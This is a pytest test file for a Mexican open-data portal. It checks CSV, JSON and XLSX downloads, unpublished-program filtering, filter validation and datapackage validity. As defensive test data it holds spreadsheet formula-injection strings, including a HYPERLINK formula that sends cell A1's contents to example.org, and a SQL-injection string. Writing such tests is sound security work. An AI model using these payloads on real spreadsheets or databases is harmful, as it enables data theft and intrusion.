"""Open data: downloads of the search results and of every dataset, and the datapackage."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import subprocess
import sys
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from django.urls import reverse

from observatorio.lib import csvfile
from observatorio.programs.models import Program, ReportingCycle
from observatorio.published.coverage import coverage
from observatorio.published.querying import programs_for

pytestmark = pytest.mark.django_db

#: The documented columns of a program (DATA.md, "Open data"), in order.
PROGRAM_HEADER = [
    "id",
    "ciclo",
    "parte",
    "objetivo",
    "objetivo_nombre",
    "objetivos_secundarios",
    "objetivos_secundarios_nombres",
    "numero",
    "titulo",
    "actor",
    "entidad_clave",
    "entidad",
    "instituciones",
    "instituciones_nombres",
    "poblaciones",
    "poblaciones_nombres",
    "poblaciones_inferidas",
    "descripcion",
    "resultados",
    "resultados_estado",
    "retos",
    "retos_estado",
    "sin_retos",
    "con_resultados_cuantitativos",
    "cifras",
    "fecha_inicio",
    "fecha_termino",
    "permanente",
    "presupuesto_mxn",
    "situacion",
    "enlaces",
    "programa_anterior_id",
    "fuente_documento",
    "fuente_primera_linea",
    "fuente_ultima_linea",
    "url",
]
#: The byte-order mark every CSV starts with (Excel reads it as "this file is UTF-8").
BOM = b"\xef\xbb\xbf"


def col(name: str) -> int:
    """The position of a program column."""
    return PROGRAM_HEADER.index(name)


FORMATS = ("csv", "json", "xlsx")
DATASETS = (
    "programas",
    "cifras",
    "objetivos",
    "entidades",
    "instituciones",
    "poblaciones",
    "practicas",
    "panorama",
    "cobertura",
    "indicadores",
    "valores-indicadores",
)


@pytest.fixture
def indexed(real_data, db):
    """The 2022 compendium and the good-practice study, imported and indexed (shared)."""


@pytest.fixture
def everything(real_data, db):
    """The same data: the open-data page offers the programs and the practices."""


def body_of(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def download(client, fmt: str, query: str = "", name: str = "portal:download", args=()):
    response = client.get(reverse(name, args=[*args, fmt]) + query)
    assert response.status_code == 200, (fmt, query, response.status_code)
    return response, body_of(response)


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def as_text(value) -> str:
    """A JSON or XLSX value written the way the CSV writes it."""
    if isinstance(value, str):
        return csvfile.cell(value)  # a text a spreadsheet would run as a formula: '=…
    if value is None:
        return ""
    if isinstance(value, bool):
        return "sí" if value else "no"
    if isinstance(value, dt.datetime):
        return value.date().isoformat()
    return str(value)


def xlsx_workbook(data: bytes):
    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(data), read_only=True)


def xlsx_rows(data: bytes) -> list[list[str]]:
    sheet = xlsx_workbook(data).worksheets[0]
    rows = [[as_text(v) for v in row] for row in sheet.iter_rows(values_only=True)]
    # A read-only sheet leaves out empty cells at the end of a row.
    return [row + [""] * (len(rows[0]) - len(row)) for row in rows]


def json_rows(data: bytes, name: str = "programs") -> tuple[dict, list[list[str]]]:
    document = json.loads(data.decode("utf-8"))
    records = document[name]
    header = list(records[0]) if records else []
    return document, [header] + [[as_text(r[k]) for k in header] for r in records]


def add_figures() -> None:
    """Two figures of a published program (the 2022 compendium has none of its own)."""
    from observatorio.programs.models import ResultFigure

    program = Program.objects.published().order_by("pk").first()
    ResultFigure.objects.create(program=program, label="Personas atendidas", value=12)
    ResultFigure.objects.create(program=program, label="Niñas", value=5, sex="mujeres")


def listed_ids(client, query: str) -> list[int]:
    """The program ids the search page lists on its first page, in order."""
    body = client.get(reverse("portal:search") + query).content.decode()
    results = body.split('<ol class="results">')[1].split("</ol>")[0]
    return [int(pk) for pk in re.findall(r'<a href="/programas/(\d+)/"><strong>', results)]


# --- the search download ------------------------------------------------------


def test_the_csv_holds_exactly_the_programs_the_search_page_lists(client, indexed):
    query = "?entidad=07&q=ninas"
    expected = programs_for({"entidad": "07", "q": "ninas"}).ids
    assert len(expected) > 1
    response, data = download(client, "csv", query)
    rows = csv_rows(data)
    assert rows[0] == PROGRAM_HEADER
    ids = [int(row[0]) for row in rows[1:]]
    assert ids == expected  # the same programs, in the page's (relevance) order
    assert ids[: len(listed_ids(client, query))] == listed_ids(client, query)
    assert {row[col("entidad_clave")] for row in rows[1:]} == {"07"}
    assert {row[col("entidad")] for row in rows[1:]} == {"Chiapas"}
    first = Program.objects.get(pk=ids[0])
    record = dict(zip(PROGRAM_HEADER, rows[1], strict=True))
    assert record["titulo"] == first.title
    assert record["descripcion"] == first.description  # multi-line text survives quoting
    assert record["objetivo"] == str(first.objective.number)
    assert record["objetivo_nombre"] == first.objective.title_es
    assert record["url"] == f"http://testserver/programas/{first.pk}/"
    assert client.get(urlsplit(record["url"]).path).status_code == 200
    assert response["Content-Disposition"] == (
        'attachment; filename="programas-entidad-07-busqueda-ninas.csv"'
    )


def test_the_csv_is_streamed_utf8_rfc4180(client, indexed):
    response, data = download(client, "csv", "?q=ninas")
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert data.startswith(BOM)  # Excel opens it as UTF-8
    assert not data[3:].startswith(BOM)
    text = data.decode("utf-8-sig")
    assert "niñas" in text
    assert text.endswith("\r\n")
    assert text.split("\r\n", 1)[0] == ",".join(PROGRAM_HEADER)
    # Quoted fields may hold line breaks; records still parse with the csv module.
    rows = csv_rows(data)
    assert all(len(row) == len(PROGRAM_HEADER) for row in rows)
    assert any("\n" in cell for row in rows for cell in row)


def test_every_format_has_the_same_rows(client, indexed):
    query = "?q=ninas&parte=estatal"
    _r, csv_data = download(client, "csv", query)
    _r, json_data = download(client, "json", query)
    response, xlsx_data = download(client, "xlsx", query)
    from_csv = csv_rows(csv_data)
    document, from_json = json_rows(json_data)
    from_xlsx = xlsx_rows(xlsx_data)
    assert len(from_csv) > 2
    assert from_json == from_csv
    assert from_xlsx == from_csv
    assert document["count"] == len(from_csv) - 1
    assert document["filters"] == {"q": "ninas", "parte": "estatal"}
    assert document["ignored"] == []
    assert "sin fines comerciales" in document["terms"]
    assert response["Content-Disposition"].endswith(
        'filename="programas-parte-estatal-busqueda-ninas.xlsx"'
    )


def test_the_xlsx_opens_and_states_the_filters_and_the_source(client, indexed):
    _r, data = download(client, "xlsx", "?ciclo=2022&entidad=14&poblacion=marcianos")
    workbook = xlsx_workbook(data)
    assert workbook.sheetnames == ["programas", "Acerca de"]
    rows = list(workbook["programas"].iter_rows(values_only=True))
    assert list(rows[0]) == PROGRAM_HEADER
    jalisco = Program.objects.published().filter(state__inegi_code="14", cycle__edition=2022)
    assert sorted(r[0] for r in rows[1:]) == sorted(jalisco.values_list("pk", flat=True))
    assert all(isinstance(r[0], int) for r in rows[1:])
    assert {r[col("permanente")] for r in rows[1:]} <= {"sí", "no"}
    about = [
        [v for v in row if v is not None]
        for row in workbook["Acerca de"].iter_rows(values_only=True)
    ]
    flat = [str(v) for row in about for v in row]
    assert ["ciclo", "2022", "Ciclo: 2022"] in about
    assert ["entidad", "14", "Entidad federativa: Jalisco"] in about
    ignored = next(row for row in about if row and row[0] == "poblacion")
    assert ignored[1] == "marcianos"
    assert any("sin fines comerciales" in v for v in flat)
    assert "con_resultados_cuantitativos" in flat  # the columns are documented in the file


def test_texts_stay_texts_in_the_spreadsheet_and_cannot_run_as_formulas_from_the_csv(
    client, indexed
):
    model = Program.objects.published().filter(section="estatal").first()
    query = f"?entidad={model.state.inegi_code}"
    program = Program.objects.create(
        cycle=model.cycle,
        section=model.section,
        objective=model.objective,
        state=model.state,
        number=99,
        title='=HYPERLINK("http://example.org","x")',
        description="#N/A",
        results="con timbre\x07 de control",
        challenges="-guion inicial",
        status=Program.Status.PUBLISHED,
    )
    _r, data = download(client, "csv", query)
    record = next(r for r in csv_rows(data) if r[0] == str(program.pk))
    assert record[col("titulo")] == "'" + program.title
    assert record[col("descripcion")] == "#N/A"
    assert record[col("resultados")] == "con timbre\x07 de control"  # CSV keeps control chars
    assert record[col("retos")] == "'-guion inicial"
    assert record[col("numero")] == "99"
    _r, data = download(client, "json", query)
    record = next(r for r in json.loads(data)["programs"] if r["id"] == program.pk)
    assert record["titulo"] == program.title  # JSON is exact
    _r, data = download(client, "xlsx", query)
    sheet = xlsx_workbook(data)["programas"]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == program.pk)
    title, description = row[col("titulo")], row[col("descripcion")]
    assert (title.value, title.data_type) == (program.title, "s")  # not a formula
    assert (description.value, description.data_type) == ("#N/A", "s")  # not an error value
    # XML cannot hold the control character.
    assert row[col("resultados")].value == "con timbre de control"


FORMULAS = ['=HYPERLINK("http://example.org/?x="&A1,"ver")', "+52 55 1234", "-guion", "@SUMA(A1)"]


def test_every_dataset_csv_neutralises_formulas_but_not_negative_numbers(client, everything):
    from observatorio.catalog.models import Institution
    from observatorio.practices.models import PanoramaFigure

    model = Program.objects.published().filter(section="estatal").first()
    for number, title in enumerate(FORMULAS, start=90):
        Program.objects.create(
            cycle=model.cycle,
            section=model.section,
            objective=model.objective,
            state=model.state,
            number=number,
            title=title,
            status=Program.Status.PUBLISHED,
        )
    Institution.objects.filter(acronym="SRE").update(name="@SRE")
    figure = PanoramaFigure.objects.order_by("pk").first()
    figure.value = -3.5
    figure.value_as_printed = "-3.5"
    figure.save()

    for url in (reverse("portal:download", args=["csv"]), "/datos/programas.csv"):
        response = client.get(url)
        titles = {row[col("titulo")] for row in csv_rows(body_of(response))}
        assert {f"'{title}" for title in FORMULAS} <= titles, url
        assert not set(FORMULAS) & titles, url
    institutions = csv_rows(body_of(client.get("/datos/instituciones.csv")))
    sre = next(row for row in institutions if row[0] == "SRE")
    assert sre[1] == "'@SRE"
    panorama = csv_rows(body_of(client.get("/datos/panorama.csv")))
    at = panorama[0].index("valor")
    row = next(row for row in panorama if row[0] == str(figure.pk))
    assert (row[at], row[at + 1]) == ("-3.5", "'-3.5")  # the number stays a number
    # The data dictionary states the rule: the datapackage (each CSV) and the /datos/ page.
    package = json.loads(client.get(reverse("portal:datapackage")).content)
    rule = "se escribe con un apóstrofo (') delante"
    assert rule in package["description"]
    assert all(rule in resource["description"] for resource in package["resources"])
    assert rule.replace("'", "&#x27;") in client.get(reverse("portal:opendata")).content.decode()


def test_a_full_search_download_is_every_published_program(client, indexed, monkeypatch):
    from observatorio.published.opendata import programs

    monkeypatch.setattr(programs, "CHUNK", 7)  # order holds across chunk boundaries
    _r, data = download(client, "csv")
    ids = [int(row[0]) for row in csv_rows(data)[1:]]
    assert ids == programs_for({}).ids
    assert len(ids) == 346
    _r, full = download(client, "csv", name="portal:dataset", args=["programas"])
    assert full == data


def test_unpublished_programs_never_appear(client, indexed):
    published = Program.objects.published().filter(state__inegi_code="07").first()
    draft = Program.objects.create(
        cycle=published.cycle,
        section=published.section,
        objective=published.objective,
        state=published.state,
        title="Borrador invisible de Chiapas",
        description="niñas y niños",
        status=Program.Status.DRAFT,
    )
    withdrawn = Program.objects.published().filter(state__inegi_code="07").last()
    Program.objects.filter(pk=withdrawn.pk).update(status=Program.Status.WITHDRAWN)
    for fmt in FORMATS:
        for query in ("?entidad=07", "?q=ninas", ""):
            _r, data = download(client, fmt, query)
            assert b"Borrador invisible" not in data
        _r, data = download(client, fmt, name="portal:dataset", args=["programas"])
        assert b"Borrador invisible" not in data
    _r, data = download(client, "csv", "?entidad=07")
    ids = {int(row[0]) for row in csv_rows(data)[1:]}
    assert draft.pk not in ids and withdrawn.pk not in ids
    assert published.pk in ids
    _r, data = download(client, "csv", name="portal:dataset", args=["programas"])
    assert len(csv_rows(data)) - 1 == Program.objects.published().count() == 345


#: Query strings with invalid filters → the parameters the search drops.
INVALID = {
    "?q=ninas&entidad=99": ["entidad"],
    "?q=ninas&objetivo=abc&cuantitativos=quizas": ["objetivo", "cuantitativos"],
    "?q=ninas&ciclo=99999999999999999999&region=atlantida": ["region", "ciclo"],
    "?q=ninas&institucion=" + "X" * 500: ["institucion"],
}
ABSURD = ("?q=%01%02", "?q=" + "a" * 5000, "?q=%27%20OR%201%3D1%20--", "?pagina=-1&tipo=practicas")


def test_invalid_filters_are_dropped_and_reported_like_the_page(client, indexed):
    _r, plain = download(client, "csv", "?q=ninas")
    for query, parameters in INVALID.items():
        _r, data = download(client, "csv", query)
        assert data == plain, query  # the same rows as without the bad filters
        _r, data = download(client, "json", query)
        document = json.loads(data)
        assert document["filters"] == {"q": "ninas"}
        assert sorted(e["parameter"] for e in document["ignored"]) == sorted(parameters)
        assert all(e["message"] for e in document["ignored"])
        page = client.get(reverse("portal:search") + query).content.decode()
        assert page.count("Se ignoró el filtro") == len(parameters)
        _r, data = download(client, "xlsx", query)
        about = xlsx_workbook(data)["Acerca de"]
        names = [row[0] for row in about.iter_rows(values_only=True) if row]
        assert all(p in names for p in parameters), query


def test_absurd_input_never_breaks_a_download(client, indexed):
    for query in ABSURD:
        for fmt in FORMATS:
            download(client, fmt, query)
    # NUL is refused before any view, in every format (observatorio/lib/middleware.py).
    for fmt in FORMATS:
        response = client.get(reverse("portal:download", args=[fmt]) + "?q=%00%01")
        assert response.status_code == 400, fmt


@pytest.mark.parametrize(
    "url",
    [
        "/buscar/programas.pdf",
        "/buscar/programas.CSV",
        "/buscar/programas.csv.exe",
        "/datos/programas.exe",
        "/datos/nada.csv",
        "/datos/cobertura.csv?ciclo=1999",
        "/datos/cobertura.csv?ciclo=abc",
        "/datos/cobertura.csv?ciclo=99999999999999999999",
    ],
)
def test_unknown_formats_datasets_and_cycles_are_not_found(client, url):
    assert client.get(url).status_code == 404


# --- datasets, the page and the links ----------------------------------------


def test_the_coverage_matrix_download_matches_the_coverage_page(client, indexed):
    cycle = ReportingCycle.objects.get(edition=2022)
    matrix = coverage(cycle)
    response, data = download(client, "csv", "?ciclo=2022", "portal:dataset", ["cobertura"])
    assert 'filename="cobertura-2022.csv"' in response["Content-Disposition"]
    rows = csv_rows(data)
    assert rows[0] == [
        "ciclo",
        "entidad_clave",
        "entidad",
        "objetivo",
        "objetivo_nombre",
        "programas",
    ]
    assert len(rows) - 1 == 32 * 23
    counts = {(r[1], int(r[3])): int(r[5]) for r in rows[1:]}
    for row in matrix.rows:
        for objective, n in zip(matrix.objectives, row.counts, strict=True):
            assert counts[(row.state.inegi_code, objective.number)] == n
    assert sum(counts.values()) == matrix.total == 118
    page = client.get(reverse("portal:coverage")).content.decode()
    assert 'href="/datos/cobertura.csv?ciclo=2022"' in page
    assert 'href="/datos/cobertura.xlsx?ciclo=2022"' in page


def test_the_search_page_links_the_downloads_of_what_it_shows(client, indexed):
    page = client.get(reverse("portal:search") + "?q=ninas&entidad=07").content.decode()
    links = re.findall(r'href="(/buscar/programas\.([\w.]+?)(?:\?[^"]*)?)"', page)
    assert [fmt for _url, fmt in links] == ["csv", "excel.csv", "json", "xlsx"]
    assert links[0][0] == "/buscar/programas.csv?q=ninas&amp;entidad=07"
    for url, _fmt in links:
        assert client.get(url.replace("&amp;", "&")).status_code == 200
    bare = client.get(reverse("portal:search")).content.decode()
    assert 'href="/buscar/programas.csv"' in bare
    practices = client.get(reverse("portal:search") + "?tipo=practicas").content.decode()
    assert "/buscar/programas.csv" not in practices  # only programs have this download


def test_the_opendata_page_offers_every_dataset_in_every_format(client, everything):
    response = client.get(reverse("portal:opendata"))
    assert response.status_code == 200
    page = response.content.decode()
    assert "Reproducción" in page or "reproducción" in page
    assert "sin fines comerciales" in page and "CONOFAM" in page
    assert 'id="licencia"' in page
    assert "http://testserver/datos/datapackage.json" in page
    for slug in DATASETS:
        for fmt in FORMATS:
            url = reverse("portal:dataset", args=[slug, fmt])
            assert f'href="{url}"' in page
            response = client.get(url)
            assert response.status_code == 200, url
            body_of(response)
    assert '<td class="num">346</td>' in page
    assert '<td class="num">44</td>' in page


def test_every_dataset_has_the_same_rows_in_every_format(client, everything):
    from observatorio.published.opendata.datasets import DATASETS as REGISTRY

    add_figures()
    for slug, dataset in REGISTRY.items():
        _r, csv_data = download(client, "csv", name="portal:dataset", args=[slug])
        _r, json_data = download(client, "json", name="portal:dataset", args=[slug])
        _r, xlsx_data = download(client, "xlsx", name="portal:dataset", args=[slug])
        from_csv = csv_rows(csv_data)
        document, from_json = json_rows(json_data, dataset.name)
        assert from_csv[0] == dataset.header
        assert len(from_csv) > 1, slug
        assert document["count"] == len(from_csv) - 1, slug
        if slug == "panorama":
            # Values are numbers in JSON and XLSX: compare them as numbers.
            at = dataset.header.index("valor")
            for rows in (from_csv, from_json):
                for row in rows[1:]:
                    row[at] = float(row[at]) if row[at] else None
        assert from_json == from_csv, slug
        from_xlsx = xlsx_rows(xlsx_data)
        if slug == "panorama":
            for row in from_xlsx[1:]:
                row[at] = float(row[at]) if row[at] else None
        assert from_xlsx == from_csv, slug


def test_practices_keep_their_five_marks_and_qualification(client, everything):
    from observatorio.practices.models import GoodPractice

    _r, data = download(client, "csv", name="portal:dataset", args=["practicas"])
    rows = csv_rows(data)
    records = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert len(records) == 44
    marks = ["sostenibilidad", "asociacion", "innovacion", "replicabilidad", "eficacia"]
    for record in records:
        practice = GoodPractice.objects.get(pk=record["id"])
        assert [record[f"{m}_marca"] for m in marks] == list(practice.marks().values())
        assert record["calificacion"] == practice.qualification.value
        assert int(record["criterios_cumplidos"]) == list(practice.marks().values()).count("cumple")
    assert {r["calificacion"] for r in records} == {"califica"}
    unknown = [r for r in records if "sin_dato" in [r[f"{m}_marca"] for m in marks]]
    assert len(unknown) == 6  # a gap in the source is "sin dato", never a pass (DATA.md)


# --- the datapackage ----------------------------------------------------------


def write_package(client, directory: Path) -> dict:
    """Fetch the descriptor and every CSV it points to; point the resources at the files."""
    descriptor = json.loads(client.get(reverse("portal:datapackage")).content)
    for resource in descriptor["resources"]:
        url = urlsplit(resource["path"])
        assert url.scheme == "http" and url.netloc == "testserver", resource["path"]
        response = client.get(url.path + (f"?{url.query}" if url.query else ""))
        assert response.status_code == 200, resource["path"]
        name = Path(url.path).name
        (directory / name).write_bytes(body_of(response))
        resource["path"] = name
    (directory / "datapackage.json").write_text(
        json.dumps(descriptor, ensure_ascii=False, indent=1), encoding="utf-8"
    )
    return descriptor


def test_the_datapackage_describes_every_csv_and_validates(client, everything, tmp_path):
    import frictionless

    response = client.get(reverse("portal:datapackage"))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    original = json.loads(response.content)
    assert original["profile"] == "tabular-data-package"
    assert original["name"] and original["title"] and original["created"]
    assert original["licenses"] and original["sources"]
    paths = [r["path"] for r in original["resources"]]
    assert paths == [f"http://testserver/datos/{slug}.csv" for slug in DATASETS]
    programs = original["resources"][0]
    assert programs["name"] == "programs"
    assert original["resources"][1]["name"] == "figures"
    assert (programs["format"], programs["mediatype"], programs["encoding"]) == (
        "csv",
        "text/csv",
        "utf-8",
    )
    assert [f["name"] for f in programs["schema"]["fields"]] == PROGRAM_HEADER
    assert all(f["description"] for r in original["resources"] for f in r["schema"]["fields"])
    assert programs["schema"]["primaryKey"] == ["id"]
    assert {
        "fields": ["objetivo"],
        "reference": {"resource": "objectives", "fields": ["numero"]},
    } in programs["schema"]["foreignKeys"]
    assert {
        "fields": ["entidad_clave"],
        "reference": {"resource": "states", "fields": ["clave_inegi"]},
    } in programs["schema"]["foreignKeys"]
    permanent = next(f for f in programs["schema"]["fields"] if f["name"] == "permanente")
    assert (permanent["trueValues"], permanent["falseValues"]) == (["sí"], ["no"])

    write_package(client, tmp_path)
    report = frictionless.validate(str(tmp_path / "datapackage.json"))
    assert report.valid, report.flatten(["title", "rowNumber", "fieldName", "type", "message"])
    assert len(report.tasks) == len(DATASETS)
    assert report.stats["errors"] == 0

    # The foreign keys are checked: a state code no state has makes the package invalid.
    table = tmp_path / "programas.csv"
    rows = csv_rows(table.read_bytes())
    target = next(i for i, row in enumerate(rows) if row[col("entidad_clave")] == "07")
    rows[target][col("entidad_clave")] = "33"
    with table.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle, lineterminator="\r\n").writerows(rows)
    broken = frictionless.validate(str(tmp_path / "datapackage.json"))
    assert not broken.valid
    assert [e.type for task in broken.tasks for e in task.errors] == ["foreign-key"]


def test_the_frictionless_command_line_validates_the_package(client, everything, tmp_path):
    write_package(client, tmp_path)
    command = Path(sys.executable).parent / "frictionless"
    result = subprocess.run(  # noqa: S603 - the venv's own tool on our own files
        [str(command), "validate", "datapackage.json"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert "INVALID" not in result.stdout
